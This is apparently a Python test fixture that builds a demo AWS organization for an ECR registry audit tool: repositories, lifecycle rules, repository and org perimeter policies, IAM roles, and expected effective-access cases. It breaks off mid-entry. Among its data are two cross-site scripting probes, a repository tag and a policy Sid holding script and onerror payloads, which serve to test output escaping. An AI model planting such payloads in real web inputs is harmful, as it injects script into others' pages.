"""The demo world: a small organization holding every case the analyses need, each named.

Accounts (management 123456789012 is moto's caller account):
  123456789012 management  root OU   us-east-1, eu-west-1
  012345678901 payments    OU prod   us-east-1, eu-west-1 (+ ap-east-1 not opted in)
  098765432109 data        OU dev    us-east-1, eu-west-1 — audit role NOT a pull-time exclusion
  000555666777 legacy      OU closed us-east-1, eu-west-1 — SUSPENDED

Named cases (see CASES for the digests/tags the tests look up):
- payments/api (payments, us-east-1): buildx OCI indexes amd64+arm64 with attestation manifests;
  semver family 1.0.0..1.2.3 + latest; an orphaned index (the old `latest`) whose children are
  referenced only by it, and one child shared with a live index; cosign signature of 1.2.3
  (`sha256-<hex>.sig`) and a dangling one; OCI 1.1 referrers (live and dangling subject);
  lifecycle = the documented prod*/beta* example; policy restricted to the org
  (Principal "*" + aws:PrincipalOrgID); layers shared with payments/worker (base image).
- payments/worker: Docker manifest lists (v1.2.0, v1.2.1, v1.3.0: family v1.2.x), single-arch
  Docker images, an untagged unreferenced image; policy grants another org member (data);
  lifecycle = the documented 3-rule example (tagged alpha*, untagged 1 day, any keep 1).
- payments/legacy-ui (payments, eu-west-1): stale images, policy to an external account,
  an out-of-grammar lifecycle policy (stored before validation tightened).
- shared/base (management, us-east-1): public policy (Principal "*"), base layers, stale images
  (pulled > 1 year ago; never pulled and old), archived images, resource tag holding
  `<script>alert(1)</script>`.
- data/etl (data, us-east-1): service principals with and without aws:SourceAccount, a
  NotPrincipal Allow, a Sid holding `<img src=x onerror=alert(1)>`.
- data/notebooks: a Deny narrowing an Allow, a dangling unique id principal (AROA...).
- data/archive (data, eu-west-1): archived and re-activated images.
- docker-hub/library/nginx (management): a pull-through cache repository.
- old/app (legacy, SUSPENDED).
Registry: payments us-east-1 registry policy V2 granting replication and ecr:* style actions to
management; data us-east-1 registry policy under scope V1; replication rules payments → own
eu-west-1, → management (org), → external 999988887777; pull-through cache rules and creation
templates in management us-east-1.

- payments/charts, payments/public-sdk, payments/partner-feed (payments, eu-west-1): empty; a
  public pull policy, a public pull policy on a repository tagged dp:exclude:identity=true, a pull
  grant to the partner account 444455556666.

Unparseable repository policies are not in the world: ECR validates the JSON of
SetRepositoryPolicy (InvalidParameterException), so such a policy cannot be stored.

Effective access (organization policies and identities; docs/organization-policies.md): SCPs and
RCPs are enabled (FullAWSAccess and RCPFullAWSAccess on the root, every OU and account); OU prod
holds the identity-perimeter RCP `data-perimeter-ecr` and the SCP `deny-ecr-repository-deletion`,
OU dev neither. payments has the roles ci-deployer, developer (boundary), vendor-deploy (trusted
by 999988887777), repo-admin and ECR's replication service-linked role; data has the users analyst
(pull without GetAuthorizationToken) and auditor (member of readers: AmazonEC2ContainerRegistryReadOnly)
and an unattached AWS managed policy; every member has OrganizationAccountAccessRole (administrator)
and every account the audit role. `ACCESS_CASES` names each case and the answer an auditor should
get: the truth table of the effective-access analysis.

Consumers (issue 14; `demo_consumers`): ECS in payments (a service pinning the digest of a tag that
has moved since — payments/worker's untagged `worker:unreferenced`, which the `untagged` lifecycle
rule expires —, running tasks, a rollback window, a Docker Hub sidecar), a Lambda function behind a
weighted alias, Batch job definitions (one naming a deleted tag), a SageMaker endpoint and models,
an EMR Serverless application, CodeBuild projects, an App Runner service, consumers in other
accounts with and without a grant, an EKS workload known only through Inspector, a hostile image
string, and CloudTrail pulls. CONSUMER_CASES names each case with what the analysis should
conclude (docs/consumers.md#the-demo-cases).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from . import manifests as mf
from .world import (
    AWS_POLICY_ARN,
    DEFAULT_NOW,
    Account,
    AppRunnerService,
    BatchJobDefinition,
    CodeBuildProject,
    Consumers,
    Container,
    EcsCluster,
    EcsDeployment,
    EcsService,
    EcsTask,
    EmrApplication,
    IamGroup,
    IamRole,
    IamUser,
    Identities,
    Image,
    InspectorCluster,
    InspectorImage,
    LambdaCode,
    LambdaFunction,
    OrgPolicy,
    Pull,
    Registry,
    Repository,
    SageMakerEndpoint,
    SageMakerModel,
    TaskDefinition,
    World,
    organization_id_for,
)

MANAGEMENT = "123456789012"
PAYMENTS = "012345678901"
DATA = "098765432109"
LEGACY = "000555666777"
CALLER_ARN = f"arn:aws:iam::{MANAGEMENT}:user/moto"  # who moto says the dummy credentials are
EXTERNAL = "999988887777"  # not in the organization
XSS_TAG = "<script>alert(1)</script>"
XSS_SID = "<img src=x onerror=alert(1)>"
DANGLING_AROA = "AROAXXXXXXXXXXXXXXXXX"


def _policy(*statements) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": list(statements)}, indent=2)


PULL = ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer", "ecr:BatchCheckLayerAvailability"]

# Base layers: one Debian-ish base shared by payments/api, payments/worker and shared/base.
BASE_LAYERS = [mf.blob("base:debian-12:rootfs", 29_150_000), mf.blob("base:debian-12:ca", 310_000)]
PYTHON_LAYERS = BASE_LAYERS + [mf.blob("base:python-3.12", 48_700_000)]


def demo_world(now: datetime = DEFAULT_NOW, name: str = "demo") -> World:
    """Build the demo world (deterministic for a given `now`)."""

    def ago(days: float) -> datetime:
        return now - timedelta(days=days)

    org_id = organization_id_for(name)  # policies name the organization

    base, python = BASE_LAYERS, PYTHON_LAYERS

    # ---- payments/api -----------------------------------------------------------------------
    api_images: list[Image] = []

    def buildx(seed, tags, pushed, pulled, children_pushed=None):
        idx, kids = mf.buildx_image(seed, python)
        for k in kids:
            api_images.append(Image(k, (), children_pushed or pushed, pulled))
        api_images.append(Image(idx, tuple(tags), pushed, pulled))
        return idx, kids

    buildx("api:1.0.0", ["1.0.0"], ago(400), ago(380))
    buildx("api:1.1.0", ["1.1.0"], ago(300), ago(120))
    buildx("api:1.2.0", ["1.2.0"], ago(90), ago(60))
    buildx("api:1.2.1", ["1.2.1"], ago(40), ago(2))
    live, live_kids = buildx("api:1.2.3", ["1.2.3", "latest"], ago(10), ago(0.5))
    # The previous `latest`: an index left untagged when the tag moved (orphaned index). Its
    # children are referenced only by it, except the amd64 child shared with live 1.2.3.
    o_amd = mf.image_manifest(
        mf.config_blob("api:old-latest:amd64"), python + [mf.blob("api:old-latest:app")]
    )
    o_arm = mf.image_manifest(
        mf.config_blob("api:old-latest:arm64"), python + [mf.blob("api:old-latest:app-arm")]
    )
    orphan_index = mf.index(
        [
            (o_amd, "linux/amd64", None),
            (o_arm, "linux/arm64", None),
            (live_kids[0], "linux/amd64", {"org.example.note": "shared child"}),
        ]
    )
    api_images += [
        Image(o_amd, (), ago(15)),
        Image(o_arm, (), ago(15)),
        Image(orphan_index, (), ago(15), ago(11)),
    ]
    sig, sig_tag = mf.cosign_signature(live.digest, "api:1.2.3")
    api_images.append(Image(sig, (sig_tag,), ago(10)))
    gone = mf.sha256("api:deleted-build")
    dsig, dsig_tag = mf.cosign_signature(gone, "api:deleted")
    api_images.append(Image(dsig, (dsig_tag,), ago(200)))
    ref_live = mf.referrer(live, "api:1.2.3:notation")
    ref_dangling = mf.referrer(gone, "api:deleted:sbom", "application/spdx+json")
    api_images += [Image(ref_live, (), ago(10)), Image(ref_dangling, (), ago(200))]

    prod_beta_policy = json.dumps(
        {
            "rules": [
                {
                    "rulePriority": 1,
                    "description": "Rule 1",
                    "selection": {
                        "tagStatus": "tagged",
                        "tagPatternList": ["prod*"],
                        "countType": "imageCountMoreThan",
                        "countNumber": 1,
                    },
                    "action": {"type": "expire"},
                },
                {
                    "rulePriority": 2,
                    "description": "Rule 2",
                    "selection": {
                        "tagStatus": "tagged",
                        "tagPatternList": ["beta*"],
                        "countType": "imageCountMoreThan",
                        "countNumber": 1,
                    },
                    "action": {"type": "expire"},
                },
            ]
        },
        indent=2,
    )
    # Images of the documented example: A [beta-1, prod-1] 10 d, B [beta-2, prod-2] 9 d, C [beta-3] 8 d.
    for tags, days in ((("beta-1", "prod-1"), 10), (("beta-2", "prod-2"), 9), (("beta-3",), 8)):
        m = mf.single_image("api:example:" + tags[0], python, docker=False)
        api_images.append(Image(m, tags, ago(days), ago(days)))

    api = Repository(
        "payments/api",
        api_images,
        created_at=ago(500),
        lifecycle_policy=prod_beta_policy,
        lifecycle_evaluated_at=ago(1),
        tags={"team": "payments", "cost-center": "cc-101"},
        scan_on_push=True,
        policy=_policy(
            {
                "Sid": "OrgPull",
                "Effect": "Allow",
                "Principal": "*",
                "Action": PULL,
                "Condition": {"StringEquals": {"aws:PrincipalOrgID": org_id}},
            }
        ),
    )

    # ---- payments/worker --------------------------------------------------------------------
    worker_images: list[Image] = []
    for tag, days, pulled in (("v1.2.0", 200, 150), ("v1.2.1", 100, 30), ("v1.3.0", 20, 1)):
        idx, kids = mf.buildx_image("worker:" + tag, base, docker=True)
        worker_images += [Image(k, (), ago(days), ago(pulled)) for k in kids]
        worker_images.append(Image(idx, (tag,), ago(days), ago(pulled)))
    # The documented 3-rule example: A[alpha-1,beta-1] 4 d, B[] 3 d, C[alpha-2] 2 d,
    # D[git-hash] 1 d, E[] 1 d -> A, B, D expire.
    for tags, days, seed in (
        (("alpha-1", "beta-1"), 4, "A"),
        ((), 3, "B"),
        (("alpha-2",), 2, "C"),
        (("3f9a2c1",), 1, "D"),
        ((), 1.01, "E"),
    ):
        worker_images.append(Image(mf.single_image("worker:example:" + seed, base), tags, ago(days)))
    # Untagged: it was `v1.3.0` until the tag moved to the manifest list (20 days ago); the worker
    # service still runs it (CONSUMER_CASES), and the `untagged` rule below would expire it.
    worker_images.append(Image(mf.single_image("worker:unreferenced", base), (), ago(45)))
    three_rules = json.dumps(
        {
            "rules": [
                {
                    "rulePriority": 1,
                    "description": "Rule 1",
                    "selection": {
                        "tagStatus": "tagged",
                        "tagPatternList": ["alpha*"],
                        "countType": "imageCountMoreThan",
                        "countNumber": 1,
                    },
                    "action": {"type": "expire"},
                },
                {
                    "rulePriority": 2,
                    "description": "Rule 2",
                    "selection": {
                        "tagStatus": "untagged",
                        "countType": "sinceImagePushed",
                        "countUnit": "days",
                        "countNumber": 1,
                    },
                    "action": {"type": "expire"},
                },
                {
                    "rulePriority": 3,
                    "description": "Rule 3",
                    "selection": {"tagStatus": "any", "countType": "imageCountMoreThan", "countNumber": 1},
                    "action": {"type": "expire"},
                },
            ]
        },
        indent=2,
    )
    worker = Repository(
        "payments/worker",
        worker_images,
        created_at=ago(400),
        lifecycle_policy=three_rules,
        lifecycle_evaluated_at=ago(1),
        tags={"team": "payments"},
        policy=_policy(
            {
                "Sid": "DataAccountPull",
                "Effect": "Allow",
                "Principal": {"AWS": f"arn:aws:iam::{DATA}:root"},
                "Action": PULL,
            },
            # The owner's own CI role (exposure `account`: reported, not exposure).
            {
                "Sid": "OwnCiPush",
                "Effect": "Allow",
                "Principal": {"AWS": f"arn:aws:iam::{PAYMENTS}:role/ci-deployer"},
                "Action": PULL
                + [
                    "ecr:PutImage",
                    "ecr:InitiateLayerUpload",
                    "ecr:UploadLayerPart",
                    "ecr:CompleteLayerUpload",
                ],
            },
        ),
    )

    # ---- payments/legacy-ui (eu-west-1) ----------------------------------------------------
    legacy_ui = Repository(
        "payments/legacy-ui",
        [
            Image(mf.single_image(f"legacy-ui:{v}", base), (v,), ago(700 - 30 * i), ago(500 - 30 * i))
            for i, v in enumerate(["2.0.0", "2.1.0", "2.2.0"])
        ]
        + [Image(mf.single_image("legacy-ui:never", base), ("2.3.0-rc1",), ago(420), None)],
        created_at=ago(800),
        # Out of grammar: `tagged` without a tag list, countUnit with imageCountMoreThan.
        lifecycle_policy=json.dumps(
            {
                "rules": [
                    {
                        "rulePriority": 1,
                        "description": "keep a few",
                        "selection": {
                            "tagStatus": "tagged",
                            "countType": "imageCountMoreThan",
                            "countUnit": "days",
                            "countNumber": 3,
                        },
                        "action": {"type": "expire"},
                    }
                ]
            },
            indent=2,
        ),
        policy=_policy(
            {
                "Sid": "VendorPull",
                "Effect": "Allow",
                "Principal": {"AWS": f"arn:aws:iam::{EXTERNAL}:root"},
                "Action": PULL,
            }
        ),
    )

    # ---- shared/base (management) -----------------------------------------------------------
    base_images = [
        Image(
            mf.single_image("base:bookworm-2024", base, app_layers=0), ("bookworm-2024",), ago(800), ago(500)
        ),  # stale: pulled > 1 year ago
        Image(
            mf.single_image("base:bullseye", base, app_layers=1), ("bullseye",), ago(900), None
        ),  # stale: never pulled, old
        Image(
            mf.single_image("base:bookworm", base, app_layers=0, docker=False),
            ("bookworm", "latest"),
            ago(30),
            ago(0.2),
        ),
        Image(
            mf.single_image("base:buster", base, app_layers=2),
            ("buster",),
            ago(1200),
            ago(700),
            status="ARCHIVED",
            last_archived_at=ago(200),
        ),  # archived
        Image(
            mf.single_image("base:stretch", base, app_layers=3),
            (),
            ago(1500),
            None,
            status="ARCHIVED",
            last_archived_at=ago(400),
        ),  # archived, untagged
    ]
    shared_base = Repository(
        "shared/base",
        base_images,
        created_at=ago(1600),
        tags={"owner": "platform", "description": XSS_TAG},
        policy=_policy({"Sid": "PublicPull", "Effect": "Allow", "Principal": "*", "Action": PULL}),
    )

    nginx = Repository(
        "docker-hub/library/nginx",
        [Image(mf.single_image("nginx:1.27", [], app_layers=3), ("1.27",), ago(60), ago(3))],
        created_at=ago(60),
    )

    # ---- data account -----------------------------------------------------------------------
    etl = Repository(
        "data/etl",
        [
            Image(
                mf.single_image(f"etl:{i}", python, docker=False),
                (f"2026.{i:02d}",),
                ago(300 - 25 * i),
                ago(200 - 20 * i) if i % 3 else None,
            )
            for i in range(1, 11)
        ],
        created_at=ago(400),
        tags={"team": "data"},
        policy=_policy(
            {
                "Sid": "CodeBuildScoped",
                "Effect": "Allow",
                "Principal": {"Service": "codebuild.amazonaws.com"},
                "Action": PULL,
                "Condition": {"StringEquals": {"aws:SourceAccount": DATA}},
            },
            {
                "Sid": "LambdaUnscoped",
                "Effect": "Allow",
                "Principal": {"Service": "lambda.amazonaws.com"},
                "Action": PULL,
            },
            {
                "Sid": "NotPrincipalAllow",
                "Effect": "Allow",
                "NotPrincipal": {"AWS": f"arn:aws:iam::{DATA}:role/blocked"},
                "Action": "ecr:*",
            },
            {
                "Sid": XSS_SID,
                "Effect": "Allow",
                "Principal": {"AWS": f"arn:aws:iam::{PAYMENTS}:role/deployer"},
                "Action": PULL,
            },
        ),
    )
    notebooks = Repository(
        "data/notebooks",
        [
            Image(mf.single_image(f"nb:{v}", python), (v,), ago(250 - 20 * i), ago(200 - 20 * i))
            for i, v in enumerate(["v1.2.0", "v1.2.1", "v1.2.2", "v1.3.0"])
        ],
        created_at=ago(300),
        policy=_policy(
            {
                "Sid": "AllowPayments",
                "Effect": "Allow",
                "Principal": {"AWS": f"arn:aws:iam::{PAYMENTS}:root"},
                "Action": ["ecr:*"],
            },
            {
                "Sid": "DenyWrites",
                "Effect": "Deny",
                "Principal": {"AWS": f"arn:aws:iam::{PAYMENTS}:root"},
                "Action": ["ecr:PutImage", "ecr:BatchDeleteImage", "ecr:DeleteRepository"],
            },
            {"Sid": "DeletedRole", "Effect": "Allow", "Principal": {"AWS": DANGLING_AROA}, "Action": PULL},
        ),
    )
    archive = Repository(
        "data/archive",
        [
            Image(
                mf.single_image(f"archive:{i}", python),
                (f"2024.{i:02d}",),
                ago(700 - 10 * i),
                ago(600 - 10 * i),
                status="ARCHIVED",
                last_archived_at=ago(100 + i),
            )
            for i in range(1, 5)
        ]
        + [
            Image(
                mf.single_image("archive:restored", python),
                ("2024.restored",),
                ago(650),
                ago(550),
                last_archived_at=ago(300),
                last_activated_at=ago(20),
            )
        ],
        created_at=ago(800),
    )

    old_app = Repository(
        "old/app",
        [Image(mf.single_image("old:1", base), ("1.0",), ago(1000), ago(900))],
        created_at=ago(1100),
    )

    # ---- registries -------------------------------------------------------------------------
    ptc_rules = [
        {
            "ecrRepositoryPrefix": "docker-hub",
            "upstreamRegistryUrl": "registry-1.docker.io",
            "upstreamRegistry": "docker-hub",
            "credentialArn": f"arn:aws:secretsmanager:us-east-1:{MANAGEMENT}:secret:"
            "ecr-pullthroughcache/dockerhub-AbCdEf",
            "createdAt": ago(60),
            "updatedAt": ago(30),
        },
        {
            "ecrRepositoryPrefix": "ecr-public",
            "upstreamRegistryUrl": "public.ecr.aws",
            "upstreamRegistry": "ecr-public",
            "createdAt": ago(90),
            "updatedAt": ago(90),
        },
    ]
    templates = [
        {
            "prefix": "docker-hub",
            "description": "pull-through cache repositories",
            "appliedFor": ["PULL_THROUGH_CACHE"],
            "imageTagMutability": "MUTABLE",
            "encryptionConfiguration": {"encryptionType": "AES256"},
            "lifecyclePolicy": json.dumps(
                {
                    "rules": [
                        {
                            "rulePriority": 1,
                            "selection": {
                                "tagStatus": "any",
                                "countType": "sinceImagePushed",
                                "countUnit": "days",
                                "countNumber": 90,
                            },
                            "action": {"type": "expire"},
                        }
                    ]
                }
            ),
            "createdAt": ago(60),
            "updatedAt": ago(60),
        },
        {
            "prefix": "ROOT",
            "description": "replicated repositories",
            "appliedFor": ["REPLICATION"],
            "imageTagMutability": "IMMUTABLE",
            "encryptionConfiguration": {"encryptionType": "AES256"},
            "repositoryPolicy": _policy(
                {"Sid": "PublicByTemplate", "Effect": "Allow", "Principal": "*", "Action": PULL}
            ),
            "createdAt": ago(100),
            "updatedAt": ago(50),
        },
    ]
    replication = [
        {
            "destinations": [{"region": "eu-west-1", "registryId": PAYMENTS}],
            "repositoryFilters": [{"filter": "payments", "filterType": "PREFIX_MATCH"}],
        },
        {"destinations": [{"region": "us-east-1", "registryId": MANAGEMENT}]},
        {
            "destinations": [{"region": "us-west-2", "registryId": EXTERNAL}],
            "repositoryFilters": [{"filter": "payments/api", "filterType": "PREFIX_MATCH"}],
        },
    ]
    payments_registry_policy = _policy(
        {
            "Sid": "ReplicationFromManagement",
            "Effect": "Allow",
            "Principal": {"AWS": f"arn:aws:iam::{MANAGEMENT}:root"},
            "Action": ["ecr:CreateRepository", "ecr:ReplicateImage"],
            "Resource": f"arn:aws:ecr:us-east-1:{PAYMENTS}:repository/*",
        },
        {
            "Sid": "ManagementReadAll",
            "Effect": "Allow",
            "Principal": {"AWS": f"arn:aws:iam::{MANAGEMENT}:root"},
            "Action": ["ecr:BatchGetImage", "ecr:DescribeImages", "ecr:BatchImportUpstreamImage"],
            "Resource": f"arn:aws:ecr:us-east-1:{PAYMENTS}:repository/*",
        },
    )
    data_registry_policy = _policy(
        {
            "Sid": "ReplicationToData",
            "Effect": "Allow",
            "Principal": {"AWS": f"arn:aws:iam::{PAYMENTS}:root"},
            "Action": ["ecr:CreateRepository", "ecr:ReplicateImage"],
            "Resource": f"arn:aws:ecr:us-east-1:{DATA}:repository/*",
        }
    )

    consumers = demo_consumers(now)
    accounts = [
        Account(
            MANAGEMENT,
            "management",
            "aws-root@example.com",
            registries=[
                # The caller reads its own account with its own credentials (moto's user), so the
                # operator registered that principal too; otherwise auto mode skips its manifests.
                Registry(
                    "us-east-1",
                    [shared_base, nginx],
                    pull_through_cache_rules=ptc_rules,
                    creation_templates=templates,
                    pull_time_exclusions=[CALLER_ARN],
                ),
                Registry("eu-west-1", [], pull_time_exclusions=[CALLER_ARN]),
            ],
        ),
        Account(
            PAYMENTS,
            "payments",
            "payments@example.com",
            ou="prod",
            disabled_regions=("ap-east-1",),
            identities=payments_identities(),
            registries=[
                Registry(
                    "us-east-1",
                    [api, worker],
                    policy=payments_registry_policy,
                    policy_scope="V2",
                    replication_rules=replication,
                ),
                Registry("eu-west-1", [legacy_ui, *perimeter_repositories(ago)], blob_mounting="ENABLED"),
            ],
        ),
        Account(
            DATA,
            "data",
            "data@example.com",
            ou="dev",
            identities=data_identities(),
            registries=[
                Registry(
                    "us-east-1",
                    [etl, notebooks],
                    policy=data_registry_policy,
                    policy_scope="V1",
                    audit_role_excluded=False,
                ),
                Registry("eu-west-1", [archive], audit_role_excluded=False),
            ],
        ),
        Account(
            LEGACY,
            "legacy",
            "legacy@example.com",
            state="SUSPENDED",
            ou="closed",
            registries=[Registry("us-east-1", [old_app]), Registry("eu-west-1", [])],
        ),
    ]
    for acct in accounts:
        for reg in acct.registries:
            reg.consumers = consumers.get((acct.account_id, reg.region), Consumers())
    return World(
        name=name,
        accounts=accounts,
        now=now,
        ous=("prod", "dev", "closed"),
        policy_types=(SCP, RCP),
        org_policies=organization_policies(org_id),
    )


# ---- effective access: organization policies and identities ----------------------------------
# The cases of `ACCESS_CASES`: a data-perimeter RCP on OU prod (payments), an SCP denying
# ecr:DeleteRepository there, OU dev (data) without either, and IAM roles, users and groups whose
# identity policies reach ECR. See docs/organization-policies.md for the AWS rules behind them.

SCP, RCP = "SERVICE_CONTROL_POLICY", "RESOURCE_CONTROL_POLICY"
PARTNER = "444455556666"  # outside the organization; let through the perimeter by aws:PrincipalAccount
PERIMETER_EXCLUDE_TAG = "dp:exclude:identity"  # repositories tagged "true" are outside the perimeter
PERIMETER_RCP = "data-perimeter-ecr"
DENY_DELETE_SCP = "deny-ecr-repository-deletion"
VENDOR_EXTERNAL_ID = "vendor-7f3a"
PUSH = PULL + ["ecr:InitiateLayerUpload", "ecr:UploadLayerPart", "ecr:CompleteLayerUpload", "ecr:PutImage"]


def organization_policies(org_id: str) -> list[OrgPolicy]:
    """The canonical identity-perimeter RCP (AWS's data-perimeter examples, `EnforceOrgIdentities`,
    for ECR) on OU prod, and an SCP denying repository deletion on OU prod."""
    perimeter = _policy(
        {
            "Sid": "EnforceOrgIdentities",
            "Effect": "Deny",
            "Principal": "*",
            "Action": "ecr:*",
            "Resource": "*",
            "Condition": {
                "StringNotEqualsIfExists": {
                    "aws:PrincipalOrgID": org_id,
                    "aws:PrincipalAccount": [PARTNER],
                    f"aws:ResourceTag/{PERIMETER_EXCLUDE_TAG}": "true",
                },
                "BoolIfExists": {"aws:PrincipalIsAWSService": "false"},
            },
        }
    )
    deny_delete = _policy(
        {"Sid": "DenyRepositoryDeletion", "Effect": "Deny", "Action": "ecr:DeleteRepository", "Resource": "*"}
    )
    return [
        OrgPolicy(PERIMETER_RCP, RCP, perimeter, ("prod",), "identity perimeter for Amazon ECR"),
        OrgPolicy(DENY_DELETE_SCP, SCP, deny_delete, ("prod",), "no repository deletion in production"),
    ]


def perimeter_repositories(ago) -> list[Repository]:
    """Three payments (OU prod) repositories whose exposure the perimeter RCP decides. In
    eu-west-1 beside payments/legacy-ui, and empty: the fault tests' counts of the other units'
    calls and rows stay what they were."""
    public_pull = {"Sid": "PublicPull", "Effect": "Allow", "Principal": "*", "Action": PULL}
    return [
        # Principal "*" under the RCP: only the organization (and the partner) can pull.
        Repository("payments/charts", created_at=ago(60), policy=_policy(public_pull)),
        # Excluded from the perimeter by its tag: stays public.
        Repository(
            "payments/public-sdk",
            created_at=ago(60),
            tags={PERIMETER_EXCLUDE_TAG: "true", "team": "payments"},
            policy=_policy(public_pull),
        ),
        # The partner the RCP lets through.
        Repository(
            "payments/partner-feed",
            created_at=ago(60),
            policy=_policy(
                {
                    "Sid": "PartnerPull",
                    "Effect": "Allow",
                    "Principal": {"AWS": f"arn:aws:iam::{PARTNER}:root"},
                    "Action": PULL,
                }
            ),
        ),
    ]


def _allow(actions, resource="*") -> dict:
    return {"Effect": "Allow", "Action": actions, "Resource": resource}


def _trust(principal: dict, condition: dict | None = None) -> str:
    statement = {"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"}
    if condition:
        statement["Condition"] = condition
    return _policy(statement)


def payments_identities() -> Identities:
    """OU prod: a CI role that pushes everywhere, a developer with ecr:* capped by a boundary,
    a role an external account assumes to push payments/api, an ECR administrator (its
    ecr:DeleteRepository denied by the SCP) and ECR's replication service-linked role."""
    read_only = ["ecr:GetAuthorizationToken", *PULL, "ecr:Describe*", "ecr:List*"]
    api = f"arn:aws:ecr:us-east-1:{PAYMENTS}:repository/payments/api"
    return Identities(
        policies={
            "ecr-push-everywhere": _policy(_allow("ecr:GetAuthorizationToken"), _allow(PUSH)),
            "ecr-full-access": _policy(_allow("ecr:*")),
            "developer-boundary": _policy(_allow(read_only)),
        },
        roles=[
            IamRole(
                "ci-deployer",
                _trust(
                    {"Service": "codebuild.amazonaws.com"}, {"StringEquals": {"aws:SourceAccount": PAYMENTS}}
                ),
                attached=("ecr-push-everywhere",),
                tags={"team": "platform"},
            ),
            IamRole(
                "developer",
                _trust({"AWS": f"arn:aws:iam::{MANAGEMENT}:root"}),
                attached=("ecr-full-access",),
                boundary="developer-boundary",
            ),
            IamRole(
                "vendor-deploy",
                _trust(
                    {"AWS": f"arn:aws:iam::{EXTERNAL}:root"},
                    {"StringEquals": {"sts:ExternalId": VENDOR_EXTERNAL_ID}},
                ),
                inline={"push-payments-api": _policy(_allow("ecr:GetAuthorizationToken"), _allow(PUSH, api))},
            ),
            IamRole(
                "repo-admin",
                _trust({"AWS": f"arn:aws:iam::{MANAGEMENT}:root"}),
                inline={"ecr-admin": _policy(_allow("ecr:*"))},
            ),
            IamRole(
                "AWSServiceRoleForECRReplication",
                _trust({"Service": "replication.ecr.amazonaws.com"}),
                path="/aws-service-role/replication.ecr.amazonaws.com/",
                attached=(f"{AWS_POLICY_ARN}aws-service-role/ECRReplicationServiceRolePolicy",),
            ),
        ],
    )


def data_identities() -> Identities:
    """OU dev: a user allowed the pull actions but not ecr:GetAuthorizationToken, a group that
    grants pull (AWS managed AmazonEC2ContainerRegistryReadOnly) to its member, and an AWS managed
    policy present but attached to nothing (not collected)."""
    return Identities(
        users=[
            IamUser(
                "analyst",
                inline={"pull-data": _policy(_allow(PULL, f"arn:aws:ecr:*:{DATA}:repository/data/*"))},
            ),
            IamUser("auditor", groups=("readers",), tags={"team": "security"}),
        ],
        groups=[IamGroup("readers", attached=(f"{AWS_POLICY_ARN}AmazonEC2ContainerRegistryReadOnly",))],
        aws_managed=(f"{AWS_POLICY_ARN}AmazonEC2ContainerRegistryFullAccess",),
    )


@dataclass(frozen=True)
class AccessCase:
    """One named case of effective access and the answer an auditor should get.

    Repository cases name a grant of a repository policy (`sid`) and expect the effective columns
    of `access.grants`; principal cases name a principal and expect rows of `access.principals`
    (`capabilities`: capability → can, on `repositories`)."""

    name: str
    account_id: str
    why: str
    region: str | None = None
    repository: str | None = None
    sid: str | None = None
    principal_arn: str | None = None
    policy_exposure: str | None = None
    effective_exposure: str | None = None
    effective_basis: str | None = None
    neutralized_by: tuple[str, ...] = ()  # org policy names whose statements removed some of it
    capabilities: dict = field(default_factory=dict)
    repositories: tuple[tuple[str, str], ...] = ()  # (region, repository name)
    capped_by: tuple[str, ...] = ()  # boundary or org policy names that cap it
    via: str | None = None


_PAYMENTS_REPOS = (
    ("us-east-1", "payments/api"),
    ("us-east-1", "payments/worker"),
    ("eu-west-1", "payments/legacy-ui"),
    ("eu-west-1", "payments/charts"),
    ("eu-west-1", "payments/public-sdk"),
    ("eu-west-1", "payments/partner-feed"),
)
_DATA_REPOS = (("us-east-1", "data/etl"), ("us-east-1", "data/notebooks"), ("eu-west-1", "data/archive"))


def _role(account_id, name, path="/") -> str:
    return f"arn:aws:iam::{account_id}:role{path}{name}"


ACCESS_CASES: dict[str, AccessCase] = {
    c.name: c
    for c in (
        AccessCase(
            "rcp_public_narrowed_to_org_and_partner",
            PAYMENTS,
            "Principal * in a member account under the perimeter RCP: outsiders are denied, the "
            "organization (and the partner account the RCP spares) can still pull",
            "eu-west-1",
            "payments/charts",
            sid="PublicPull",
            policy_exposure="public",
            effective_exposure="external",
            effective_basis="rcp_applied",
            neutralized_by=(PERIMETER_RCP,),
        ),
        AccessCase(
            "rcp_excluded_by_tag",
            PAYMENTS,
            f"the repository carries {PERIMETER_EXCLUDE_TAG}=true, which the RCP's condition exempts",
            "eu-west-1",
            "payments/public-sdk",
            sid="PublicPull",
            policy_exposure="public",
            effective_exposure="public",
            effective_basis="rcp_excluded_by_tag",
        ),
        AccessCase(
            "rcp_partner_exception",
            PAYMENTS,
            "the RCP spares aws:PrincipalAccount 444455556666: the partner keeps its pull",
            "eu-west-1",
            "payments/partner-feed",
            sid="PartnerPull",
            policy_exposure="external",
            effective_exposure="external",
            effective_basis="rcp_applied",
        ),
        AccessCase(
            "rcp_neutralizes_external",
            PAYMENTS,
            "an account outside the organization, not spared by the RCP: its pull is denied",
            "eu-west-1",
            "payments/legacy-ui",
            sid="VendorPull",
            policy_exposure="external",
            effective_exposure="none",
            effective_basis="rcp_applied",
            neutralized_by=(PERIMETER_RCP,),
            capabilities={"pull": False},
        ),
        AccessCase(
            "management_account_exempt",
            MANAGEMENT,
            "RCPs do not apply to resources in the management account",
            "us-east-1",
            "shared/base",
            sid="PublicPull",
            policy_exposure="public",
            effective_exposure="public",
            effective_basis="management_account_exempt",
        ),
        AccessCase(
            "ou_without_rcp",
            DATA,
            "OU dev has no RCP but RCPFullAWSAccess: the NotPrincipal Allow stays public",
            "us-east-1",
            "data/etl",
            sid="NotPrincipalAllow",
            policy_exposure="public",
            effective_exposure="public",
            effective_basis="no_rcp_on_path",
        ),
        AccessCase(
            "org_grant_unchanged_by_rcp",
            PAYMENTS,
            "a grant already confined to the organization: the RCP takes nothing away",
            "us-east-1",
            "payments/api",
            sid="OrgPull",
            policy_exposure="org",
            effective_exposure="org",
        ),
        AccessCase(
            "ci_role_pushes_everywhere",
            PAYMENTS,
            "ecr-push-everywhere allows the push actions on *: every payments repository (same "
            "account: the identity policy suffices) and data/etl, whose NotPrincipal Allow lets any "
            "principal in; data/notebooks denies ecr:PutImage to the payments account (layers can "
            "be uploaded there, no image can be pushed)",
            principal_arn=_role(PAYMENTS, "ci-deployer"),
            capabilities={"push": True, "pull": True, "get_authorization_token": True},
            repositories=(*_PAYMENTS_REPOS, ("us-east-1", "data/etl")),
            via="identity",
        ),
        AccessCase(
            "developer_capped_by_boundary",
            PAYMENTS,
            "ecr:* attached, but the permissions boundary allows only reads and pulls; "
